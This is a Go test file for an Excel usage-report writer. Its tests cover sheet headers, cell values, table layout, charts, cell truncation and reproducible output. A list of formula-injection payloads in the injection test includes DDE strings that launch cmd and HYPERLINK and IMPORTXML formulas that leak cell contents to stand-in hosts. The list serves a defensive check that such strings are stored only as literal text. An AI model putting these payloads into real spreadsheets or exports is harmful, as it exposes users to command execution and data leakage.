package xlsx

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"html"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/usagerep/usagerep/pkg/identity"
	"github.com/usagerep/usagerep/pkg/usage"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")

func TestGolden(t *testing.T) {
	rep, wb := sampleReport()
	got := dump(t, render(t, rep, wb))
	path := filepath.Join("testdata", "sample.golden")
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if got != string(want) {
		t.Errorf("workbook differs from %s (go test -update rewrites it):\n%s", path, lineDiff(string(want), got))
	}
}

// lineDiff lists the lines that differ, enough to see what changed.
func lineDiff(want, got string) string {
	w, g := strings.Split(want, "\n"), strings.Split(got, "\n")
	var sb strings.Builder
	for i := 0; i < max(len(w), len(g)); i++ {
		var a, b string
		if i < len(w) {
			a = w[i]
		}
		if i < len(g) {
			b = g[i]
		}
		if a != b {
			fmt.Fprintf(&sb, "line %d:\n  want %s\n  got  %s\n", i+1, a, b)
		}
	}
	return sb.String()
}

func TestSheetsAndHeaders(t *testing.T) {
	rep, wb := sampleReport()
	f := open(t, render(t, rep, wb))
	if got := f.GetSheetList(); !slices.Equal(got, wantSheets) {
		t.Fatalf("sheets %q, want %q", got, wantSheets)
	}
	headers := map[string][]string{
		SheetUserCount:    {"System / Source", "Count", "Usernames or Emails", "Emails", "Display Names", "Usernames"},
		SheetEntityTypes:  {"System Pairs", "End System", "Entity Types", "Status", "Last Synced"},
		SheetProjects:     {"End System 1", "End System 2", "End System 1 Project", "End System 2 Project", "Status", "Last Updated", "Last Synced"},
		SheetSyncedData:   {"End System 1", "End System 2", "Counts Based on System Pair", "Last Synced"},
		SheetDetailedUser: {"Email", "Username", "Display Name", "Interaction Types", "Observed In", "Service Account", "Last Seen", "Duplicates", "Aliases", "Identified By", "Profile Id"},
	}
	for sheet, want := range headers {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) == 0 || !slices.Equal(rows[0], want) {
			t.Errorf("%s header %q, want %q", sheet, rows[0], want)
		}
		for c := range want {
			ref, _ := excelize.CoordinatesToCellName(c+1, 1)
			if ci := inspect(t, f, sheet, ref); ci.kind != "text" || !ci.bold {
				t.Errorf("%s!%s header is %s bold=%v, want bold text", sheet, ref, ci.kind, ci.bold)
			}
		}
	}
}

// TestValues checks hand-computed cells of every sheet. Times are in
// Europe/Berlin: +02:00 until 2026-10-25, +01:00 after.
func TestValues(t *testing.T) {
	rep, wb := sampleReport()
	f := open(t, render(t, rep, wb))
	tests := []struct {
		sheet, ref string
		kind       string
		value      string
		raw        string // checked when set
		bold       bool
	}{
		{SheetSummary, "A1", "text", "Usage Report (Last 6 Months)", "", true},
		{SheetSummary, "A4", "text", "Total Unique Users", "", false},
		{SheetSummary, "B4", "number", "5", "5", false},
		{SheetSummary, "B9", "number", "1", "1", false}, // service accounts
		{SheetSummary, "B12", "number", "1,234,567", "1234567", false},
		{SheetSummary, "B15", "date", "2026-05-23 00:00:00", "46165", false},
		{SheetSummary, "B16", "date", "2026-11-23 00:00:00", "46349", false},
		{SheetSummary, "B17", "text", "Europe/Berlin", "", false},
		{SheetSummary, "A21", "text", "logs/jira.jsonl.gz", "", false},
		{SheetSummary, "B29", "number", "1", "1", false}, // ambiguous identities
		{SheetSummary, "D32", "text", "missing time: 3; bad JSON: 2", "", false},
		{SheetSummary, "F32", "number", "1", "1", false},
		{SheetUserCount, "A3", "text", "Jira Cloud", "", false},
		{SheetUserCount, "C3", "number", "2", "2", false},
		{SheetUserCount, "A5", "text", "Total (all systems)", "", true},
		{SheetUserCount, "B5", "number", "5", "5", true},
		{SheetEntityTypes, "A4", "text", "Jira Cloud <-> ServiceNow", "", false},
		{SheetEntityTypes, "E2", "date", "2026-11-20 09:30:15", "", false},
		{SheetEntityTypes, "E4", "date", "2026-06-03 01:59:59", "", false},
		{SheetProjects, "F2", "date", "2026-10-01 11:00:00", "", false},
		{SheetProjects, "F3", "empty", "", "", false}, // no integration_updated
		{SheetProjects, "D3", "text", "=cmd|' /C calc'!A0", "", false},
		{SheetSyncedData, "C2", "number", "1,234,000", "1234000", false},
		{SheetSyncedData, "D3", "date", "2026-06-03 01:59:59", "", false},
		{SheetDetailedUser, "A2", "text", "+15551234@sms.example", "", false},
		{SheetDetailedUser, "B2", "text", "-dash", "", false},
		{SheetDetailedUser, "C2", "text", "@mention", "", false},
		{SheetDetailedUser, "G2", "date", "2026-11-01 11:00:00", "", false},
		{SheetDetailedUser, "D3", "text", "assignee, comment, sync", "", false},
		{SheetDetailedUser, "E3", "text", "GitHub (2026-05-23 08:00:00 - 2026-11-20 09:30:15); Jira Cloud (2026-06-01 02:00:00 - 2026-11-19 18:45:00)", "", false},
		{SheetDetailedUser, "F3", "text", "No", "", false},
		{SheetDetailedUser, "H3", "text", "amueller (GitHub), ann.m (Jira Cloud)", "", false},
		{SheetDetailedUser, "I3", "text", "ann.mueller@example.com, amueller", "", false},
		{SheetDetailedUser, "J3", "text", "Usernames or Emails", "", false},
		{SheetDetailedUser, "C4", "text", `=HYPERLINK("http://evil","x")`, "", false},
		{SheetDetailedUser, "F4", "text", "Yes", "", false},
		{SheetDetailedUser, "C5", "text", "李小龍", "", false},
		{SheetDetailedUser, "J5", "text", "Display Names (ambiguous)", "", false},
		{SheetDetailedUser, "G6", "empty", "", "", false}, // zero LastSeen
		{SheetDetailedUser, "J6", "text", "Usernames", "", false},
		{SheetDetailedUser, "K6", "text", "p-0005", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.sheet+"!"+tt.ref, func(t *testing.T) {
			ci := inspect(t, f, tt.sheet, tt.ref)
			if ci.kind != tt.kind || ci.value != tt.value || ci.bold != tt.bold {
				t.Errorf("got %s %q bold=%v, want %s %q bold=%v", ci.kind, ci.value, ci.bold, tt.kind, tt.value, tt.bold)
			}
			if tt.raw != "" && ci.raw != tt.raw {
				t.Errorf("stored %q, want %q", ci.raw, tt.raw)
			}
			if ci.formula != "" {
				t.Errorf("has formula %q", ci.formula)
			}
		})
	}
}

// TestNoCellIsAFormula reads every cell of every sheet back.
func TestNoCellIsAFormula(t *testing.T) {
	rep, wb := injectionReport()
	data := render(t, rep, wb)
	f := open(t, data)
	texts := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				ci := inspect(t, f, sheet, ref)
				if ci.formula != "" || strings.HasPrefix(ci.kind, "other") {
					t.Errorf("%s!%s is %s with formula %q", sheet, ref, ci.kind, ci.formula)
				}
				if ci.kind == "text" {
					texts++
				}
			}
		}
	}
	// The payloads are in the right cells, as literal text.
	for i, p := range injectionPayloads {
		r := strconv.Itoa(i + 2)
		for _, ref := range []string{"A" + r, "B" + r, "C" + r, "I" + r, "K" + r} {
			ci := inspect(t, f, SheetDetailedUser, ref)
			if ci.kind != "text" || !strings.Contains(ci.value, strings.TrimSpace(p)) {
				t.Errorf("Detailed User Report!%s = %s %q, want text holding %q", ref, ci.kind, ci.value, p)
			}
		}
	}
	if texts < 100 {
		t.Errorf("only %d text cells checked", texts)
	}
	// And no part of the package holds a formula element at all.
	for name, body := range parts(t, data) {
		if strings.HasPrefix(name, "xl/worksheets/") && regexp.MustCompile(`<f[ >]`).MatchString(body) {
			t.Errorf("%s has a formula element", name)
		}
	}
}

// injectionPayloads are known spreadsheet formula-injection strings.
var injectionPayloads = []string{
	"=1+1",
	"=cmd|' /C calc'!A0",
	`=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
	"+1+1",
	"-1+1",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
	"\t=1+1",
	"\r=1+1",
	"=DDE(\"cmd\";\"/C calc\";\"!A0\")",
	"-@1+1",
	"=+1",
}

// injectionReport puts the payloads in every text field.
func injectionReport() (*usage.Report, *usage.Workbook) {
	rep, wb := sampleReport()
	wb.Users = nil
	for i, p := range injectionPayloads {
		wb.Users = append(wb.Users, usage.UserRow{
			Email: p, Username: p, DisplayName: p,
			Interactions: []string{p},
			ObservedIn:   []usage.SystemSeen{{System: p, First: wb.Period.From, Last: wb.Period.To}},
			Duplicates:   []identity.Duplicate{{Username: p, System: p}},
			Aliases:      []string{p},
			IdentifiedBy: identity.ClassEmail,
			ProfileID:    p,
			LastSeen:     wb.Period.From.Add(time.Duration(i) * time.Hour),
		})
		wb.UserCounts = append(wb.UserCounts, usage.SystemUserCount{System: p, Count: 1})
		wb.EntityTypes = append(wb.EntityTypes, usage.EntityTypeRow{SystemPair: p, EndSystem: p, EntityType: p, Status: p})
		wb.ProjectPairs = append(wb.ProjectPairs, usage.ProjectPairRow{System1: p, System2: p, Project1: p, Project2: p, Status: p})
		wb.SystemPairs = append(wb.SystemPairs, usage.SystemPairRow{System1: p, System2: p})
		wb.Summary.Inputs = append(wb.Summary.Inputs, p)
		wb.Summary.Quality.Sources = append(wb.Summary.Quality.Sources, usage.SourceQuality{
			Source: p, RejectReasons: []usage.ReasonCount{{Reason: p, Count: 1}},
		})
	}
	return rep, wb
}

func TestLayout(t *testing.T) {
	rep, wb := sampleReport()
	data := render(t, rep, wb)
	f := open(t, data)
	ps := parts(t, data)
	tables := map[string]string{
		SheetUserCount:    "A1:F5",
		SheetEntityTypes:  "A1:E4",
		SheetProjects:     "A1:G3",
		SheetSyncedData:   "A1:D3",
		SheetDetailedUser: "A1:K6",
	}
	for sheet, ref := range tables {
		panes, err := f.GetPanes(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
			t.Errorf("%s panes %+v, want the header row frozen", sheet, panes)
		}
		got, err := f.GetTables(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if len(got) != 1 || got[0].Range != ref {
			t.Errorf("%s tables %+v, want one over %s", sheet, got, ref)
		}
	}
	// Every table carries an autofilter over its whole range.
	n := 0
	for name, body := range ps {
		if !strings.HasPrefix(name, "xl/tables/") {
			continue
		}
		n++
		m := regexp.MustCompile(`<table [^>]* ref="([^"]+)"><autoFilter ref="([^"]+)"`).FindStringSubmatch(body)
		if m == nil || m[1] != m[2] {
			t.Errorf("%s has no autofilter over its range: %.200s", name, body)
		}
	}
	if n != 6 {
		t.Errorf("%d tables, want 6 (five sheets and Summary's sources)", n)
	}
	summaryTables, err := f.GetTables(SheetSummary)
	if err != nil {
		t.Fatal(err)
	}
	if len(summaryTables) != 1 || summaryTables[0].Range != "A31:F33" {
		t.Errorf("Summary tables %+v, want the sources table A31:F33", summaryTables)
	}

	// Widths fit the content: the widest email plus padding; a header
	// wider than its content; Observed In capped.
	widths := []struct {
		sheet, col string
		want       float64
	}{
		{SheetDetailedUser, "A", float64(len("+15551234@sms.example") + widthPadding)},
		{SheetDetailedUser, "E", maxColWidth},
		{SheetDetailedUser, "G", float64(timeWidth + widthPadding)},
		{SheetDetailedUser, "F", float64(headerWidth("Service Account") + widthPadding)},
		{SheetSummary, "A", float64(len("Total Unique Entity Types") + widthPadding)},
	}
	for _, w := range widths {
		got, err := f.GetColWidth(w.sheet, w.col)
		if err != nil {
			t.Fatal(err)
		}
		if got != w.want {
			t.Errorf("%s column %s width %g, want %g", w.sheet, w.col, got, w.want)
		}
	}

	// The chart is a native bar chart over the systems' rows.
	chart, ok := ps["xl/charts/chart1.xml"]
	if !ok {
		t.Fatal("no chart")
	}
	chart = html.UnescapeString(chart)
	for _, want := range []string{
		`<barDir val="bar">`,
		`<varyColors val="0">`,
		`<cat><strRef><f>'Unique User Count'!$A$2:$A$4</f>`,
		`<val><numRef><f>'Unique User Count'!$B$2:$B$4</f>`,
	} {
		if !strings.Contains(chart, want) {
			t.Errorf("chart lacks %s", want)
		}
	}
	if !strings.Contains(ps["xl/drawings/_rels/drawing1.xml.rels"], "chart1.xml") {
		t.Error("the chart is not drawn on a sheet")
	}
	if !strings.Contains(ps["xl/worksheets/_rels/sheet1.xml.rels"], "drawing") {
		t.Error("Summary has no drawing")
	}
}

func TestNoSystemsNoChart(t *testing.T) {
	rep, wb := sampleReport()
	wb.UserCounts = nil
	wb.Users = nil
	wb.Summary.Quality.Sources = nil
	data := render(t, rep, wb)
	for name := range parts(t, data) {
		if strings.Contains(name, "chart") || strings.Contains(name, "drawing") {
			t.Errorf("unexpected part %s", name)
		}
	}
	f := open(t, data)
	// An empty list still has its header, freeze and filter.
	tables, err := f.GetTables(SheetDetailedUser)
	if err != nil {
		t.Fatal(err)
	}
	if len(tables) != 1 || tables[0].Range != "A1:K2" {
		t.Errorf("empty Detailed User Report tables %+v, want A1:K2", tables)
	}
	if ci := inspect(t, f, SheetUserCount, "A2"); ci.value != totalLabel || !ci.bold {
		t.Errorf("Unique User Count!A2 = %+v, want the bold total row", ci)
	}
	rows, err := f.GetRows(SheetSummary)
	if err != nil {
		t.Fatal(err)
	}
	last := rows[len(rows)-1]
	if !slices.Equal(last, sourceHeaders) {
		t.Errorf("Summary ends with %q, want the (empty) sources table header", last)
	}
}

func TestTruncatedCells(t *testing.T) {
	rep, wb := sampleReport()
	long := strings.Repeat("x", 40000)
	emoji := strings.Repeat("😀", 20000) // 2 UTF-16 units each
	wb.Users[1].DisplayName = long
	wb.Users[1].Email = emoji
	wb.Summary.Inputs[0] = long
	f := open(t, render(t, rep, wb))
	for _, c := range []struct{ sheet, ref, orig string }{
		{SheetDetailedUser, "C3", long},
		{SheetDetailedUser, "A3", emoji},
		{SheetSummary, "A21", long},
	} {
		ci := inspect(t, f, c.sheet, c.ref)
		units := len(utf16.Encode([]rune(ci.value)))
		if ci.kind != "text" || units > maxCellChars || units < maxCellChars-1 {
			t.Errorf("%s!%s: %s of %d UTF-16 units, want text of at most %d", c.sheet, c.ref, ci.kind, units, maxCellChars)
		}
		if !strings.HasSuffix(ci.value, truncMarker) || !utf8.ValidString(ci.value) {
			t.Errorf("%s!%s does not end with the marker or is not valid UTF-8", c.sheet, c.ref)
		}
		if kept := strings.TrimSuffix(ci.value, truncMarker); !strings.HasPrefix(c.orig, kept) {
			t.Errorf("%s!%s is not a prefix of the original", c.sheet, c.ref)
		}
	}
}

func TestFitCell(t *testing.T) {
	tests := []struct {
		name string
		in   string
		cut  bool
	}{
		{"short", "hello", false},
		{"exactly the limit", strings.Repeat("a", maxCellChars), false},
		{"one over", strings.Repeat("a", maxCellChars+1), true},
		// 3 bytes but 1 unit each: over the limit in bytes, not in units.
		{"multi-byte under", strings.Repeat("€", 20000), false},
		{"multi-byte over", strings.Repeat("€", maxCellChars+1), true},
		{"surrogate pairs", strings.Repeat("😀", maxCellChars/2+1), true},
		{"invalid UTF-8", strings.Repeat("\xff", maxCellChars+5), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := fitCell(tt.in)
			if !tt.cut {
				if got != tt.in {
					t.Fatalf("changed a string that fits")
				}
				return
			}
			units := 0
			for _, r := range got {
				units += utf16Len(r)
			}
			if units > maxCellChars || !strings.HasSuffix(got, truncMarker) {
				t.Errorf("%d units, suffix %q", units, got[max(0, len(got)-20):])
			}
			kept := strings.TrimSuffix(got, truncMarker)
			if !strings.HasPrefix(tt.in, kept) || len(kept) == 0 {
				t.Error("kept text is not a prefix of the input")
			}
			if next, _ := utf8.DecodeRuneInString(tt.in[len(kept):]); units+utf16Len(next) <= maxCellChars {
				t.Errorf("cut too early: %d units used", units)
			}
		})
	}
}

func TestContinuationSheets(t *testing.T) {
	old := maxSheetRows
	maxSheetRows = 4 // a header and three rows
	t.Cleanup(func() { maxSheetRows = old })

	rep, wb := sampleReport()
	base := wb.Users[1]
	wb.Users = nil
	for i := range 8 {
		u := base
		u.Email = fmt.Sprintf("user%d@example.com", i)
		wb.Users = append(wb.Users, u)
	}
	f := open(t, render(t, rep, wb))
	want := []string{
		SheetSummary, SheetUserCount, SheetEntityTypes, SheetProjects,
		SheetProjects, // two rows fit: no second sheet
		SheetSyncedData,
		SheetDetailedUser, SheetDetailedUser + " (2)", SheetDetailedUser + " (3)",
	}
	want = slices.Delete(want, 4, 5)
	// Unique User Count has 3 systems and the total: 4 rows, two sheets.
	want = slices.Insert(want, 2, SheetUserCount+" (2)")
	if got := f.GetSheetList(); !slices.Equal(got, want) {
		t.Fatalf("sheets %q, want %q", got, want)
	}
	var emails []string
	for i, sheet := range want[len(want)-3:] {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(rows[0], userHeaders) {
			t.Errorf("%s header %q", sheet, rows[0])
		}
		wantRows := []int{3, 3, 2}[i]
		if len(rows)-1 != wantRows {
			t.Errorf("%s has %d data rows, want %d", sheet, len(rows)-1, wantRows)
		}
		for _, r := range rows[1:] {
			emails = append(emails, r[0])
		}
		panes, _ := f.GetPanes(sheet)
		tables, _ := f.GetTables(sheet)
		if !panes.Freeze || len(tables) != 1 || tables[0].Range != "A1:K"+strconv.Itoa(wantRows+1) {
			t.Errorf("%s: panes %+v tables %+v", sheet, panes, tables)
		}
	}
	for i, e := range emails {
		if want := fmt.Sprintf("user%d@example.com", i); e != want {
			t.Errorf("row %d is %s, want %s: rows lost or reordered", i, e, want)
		}
	}
	if rows, _ := f.GetRows(SheetUserCount + " (2)"); len(rows) != 2 || rows[1][0] != totalLabel {
		t.Errorf("Unique User Count (2) = %q, want the header and the total row", rows)
	}
}

func TestReproducible(t *testing.T) {
	// Small blocks and spilling, so a small workbook takes every path.
	oldBlock, oldSpill := blockSize, spillAt
	blockSize, spillAt = 16<<10, 16<<10
	t.Cleanup(func() { blockSize, spillAt = oldBlock, oldSpill })
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp)

	rep, wb := bigReport(500)
	first := render(t, rep, wb)
	if n := len(parts(t, first)["xl/worksheets/sheet6.xml"]); n < 8*blockSize {
		t.Errorf("Detailed User Report is %d bytes: the test no longer spans several deflate blocks", n)
	}
	if len(first) < spillAt {
		t.Errorf("workbook is %d bytes: the test no longer spills to a file", len(first))
	}
	// Several runs, since map order (which excelize uses) varies by run.
	for _, procs := range []int{1, 2, 5, 1, 2, 5} {
		old := runtime.GOMAXPROCS(procs)
		again := render(t, rep, wb)
		runtime.GOMAXPROCS(old)
		if !bytes.Equal(first, again) {
			pa, pb := parts(t, first), parts(t, again)
			for name := range pa {
				if pa[name] != pb[name] {
					t.Errorf("part %s differs", name)
				}
			}
			t.Fatalf("GOMAXPROCS=%d gave different bytes", procs)
		}
	}
	rep.AsOf = rep.AsOf.Add(time.Second)
	if bytes.Equal(first, render(t, rep, wb)) {
		t.Error("a different as-of gave the same bytes")
	}
	if left, _ := os.ReadDir(tmp); len(left) > 0 {
		t.Errorf("temporary files left behind: %v", left)
	}
}

// TestNoClock checks that the only dates in the package are the data's and
// the as-of time.
func TestNoClock(t *testing.T) {
	rep, wb := sampleReport()
	rep.AsOf = time.Date(2019, 3, 4, 5, 6, 7, 0, time.UTC)
	data := render(t, rep, wb)
	core := parts(t, data)["docProps/core.xml"]
	for _, want := range []string{"<dcterms:created xsi:type=\"dcterms:W3CDTF\">2019-03-04T05:06:07Z<", "<dcterms:modified xsi:type=\"dcterms:W3CDTF\">2019-03-04T05:06:07Z<"} {
		if !strings.Contains(core, want) {
			t.Errorf("core.xml lacks %s:\n%s", want, core)
		}
	}
	zr := open(t, data)
	_ = zr
	now := time.Now().UTC().Format("2006-01-02T15")
	for name, body := range parts(t, data) {
		if strings.Contains(body, now) {
			t.Errorf("%s holds the current time %s", name, now)
		}
	}
}

type failingWriter struct {
	n   int
	err error
}

func (w *failingWriter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		n := w.n
		w.n = 0
		return n, w.err
	}
	w.n -= len(p)
	return len(p), nil
}

func TestWriteErrors(t *testing.T) {
	rep, wb := sampleReport()
	size := len(render(t, rep, wb))
	errFull := errors.New("no space left on device")
	for _, limit := range []int{0, 100, size / 2, size - 1} {
		err := WriteUsageWorkbook(&failingWriter{n: limit, err: errFull}, rep, wb)
		if !errors.Is(err, errFull) {
			t.Errorf("limit %d of %d: error %v, want %v", limit, size, err, errFull)
		}
	}
	if err := WriteUsageWorkbook(&bytes.Buffer{}, nil, wb); err == nil {
		t.Error("nil report accepted")
	}
}

func TestExcelTime(t *testing.T) {
	tests := []struct {
		t      time.Time
		loc    *time.Location
		serial float64
		ok     bool
	}{
		{time.Date(1900, 3, 1, 0, 0, 0, 0, time.UTC), time.UTC, 61, true},
		{time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC), time.UTC, 46348, true},
		{time.Date(2026, 11, 22, 18, 0, 0, 0, time.UTC), time.UTC, 46348.75, true},
		// Shown in the report's zone: 23:00 UTC is midnight in Berlin.
		{time.Date(2026, 11, 22, 23, 0, 0, 0, time.UTC), berlin, 46349, true},
		// Fractions of a second are dropped, as in text.
		{time.Date(2026, 11, 22, 0, 0, 0, 999_999_999, time.UTC), time.UTC, 46348, true},
		{time.Date(1900, 2, 28, 23, 59, 59, 0, time.UTC), time.UTC, 0, false},
		{time.Date(9999, 12, 31, 0, 0, 0, 0, time.UTC), time.UTC, 2958465, true},
		{time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC), time.UTC, 0, false},
	}
	for _, tt := range tests {
		got, ok := excelTime(tt.t, tt.loc)
		if ok != tt.ok || got != tt.serial {
			t.Errorf("excelTime(%v, %v) = %v, %v; want %v, %v", tt.t, tt.loc, got, ok, tt.serial, tt.ok)
		}
	}
}

func TestOutOfRangeTimesAreText(t *testing.T) {
	rep, wb := sampleReport()
	wb.Users[0].LastSeen = time.Date(1899, 1, 2, 3, 4, 5, 0, time.UTC)
	f := open(t, render(t, rep, wb))
	// Berlin has kept CET (+01:00) since 1893.
	if ci := inspect(t, f, SheetDetailedUser, "G2"); ci.kind != "text" || ci.value != "1899-01-02 04:04:05" {
		t.Errorf("got %s %q, want the time as text", ci.kind, ci.value)
	}
}

func TestAppendTime(t *testing.T) {
	times := []time.Time{
		time.Date(2026, 3, 29, 0, 59, 59, 0, time.UTC), // the hour before summer time
		time.Date(2026, 3, 29, 1, 0, 0, 0, time.UTC),
		time.Date(1, 1, 1, 0, 0, 1, 0, time.UTC),
		time.Date(12345, 6, 7, 8, 9, 10, 0, time.UTC),
		time.Date(-5, 6, 7, 8, 9, 10, 0, time.UTC),
	}
	for _, tm := range times {
		for _, loc := range []*time.Location{time.UTC, berlin} {
			if got, want := string(appendTime([]byte("x"), tm, loc)), "x"+tm.In(loc).Format(timeLayout); got != want {
				t.Errorf("appendTime(%v, %v) = %q, want %q", tm, loc, got, want)
			}
		}
	}
}

func TestTextWidth(t *testing.T) {
	tests := []struct {
		s     string
		limit int
		want  int
	}{
		{"", 80, 0},
		{"hello", 80, 5},
		{"Müller", 80, 6},
		{"李小龍", 80, 6},
		{"e\u0301", 80, 1}, // e and a combining accent
		{"short\nmuch longer line", 80, 16},
		{strings.Repeat("x", 500), 80, 80},
	}
	for _, tt := range tests {
		if got := textWidth(tt.s, tt.limit); got != tt.want {
			t.Errorf("textWidth(%q) = %d, want %d", tt.s, got, tt.want)
		}
	}
	// No text is wider than its bytes, which lets measure skip the cells
	// that cannot widen their column: every rune, valid or not.
	for r := rune(0); r <= utf8.MaxRune+1; r++ {
		s := string(r)
		if r > utf8.MaxRune {
			s = "\xff"
		}
		if w := textWidth(s, 80); w > len(s) {
			t.Fatalf("textWidth(%q) = %d, wider than its %d bytes", s, w, len(s))
		}
	}
	ints := map[int64]int{0: 1, 7: 1, 999: 3, 1000: 5, 1234567: 9, -1234: 6, -9223372036854775808: 26}
	for n, want := range ints {
		if got := intWidth(n); got != want {
			t.Errorf("intWidth(%d) = %d, want %d", n, got, want)
		}
	}
}
